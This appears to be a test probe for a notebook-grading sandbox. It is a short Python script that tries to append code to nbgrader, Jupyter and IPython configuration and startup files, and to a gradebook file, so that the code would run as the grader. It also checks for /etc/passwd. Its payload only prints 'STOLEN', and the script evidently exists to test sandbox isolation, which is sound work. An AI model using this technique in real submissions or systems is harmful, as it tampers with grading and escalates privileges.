# in: extra
"""Writes configuration that nbgrader, Jupyter or IPython would run as the grader."""

import os

for place in ("@GRADING@", "@SUBMISSIONS@", "/root/.jupyter", "/root/.ipython/profile_default/startup", "/etc/jupyter"):
    for name in ("nbgrader_config.py", "jupyter_config.py", "00-start.py", "gradebook.db"):
        try:
            os.makedirs(place, exist_ok=True)
            open(f"{place}/{name}", "a").write("print('STOLEN')")
            print("STOLEN" if os.path.exists("/etc/passwd") else "")
        except OSError:
            pass
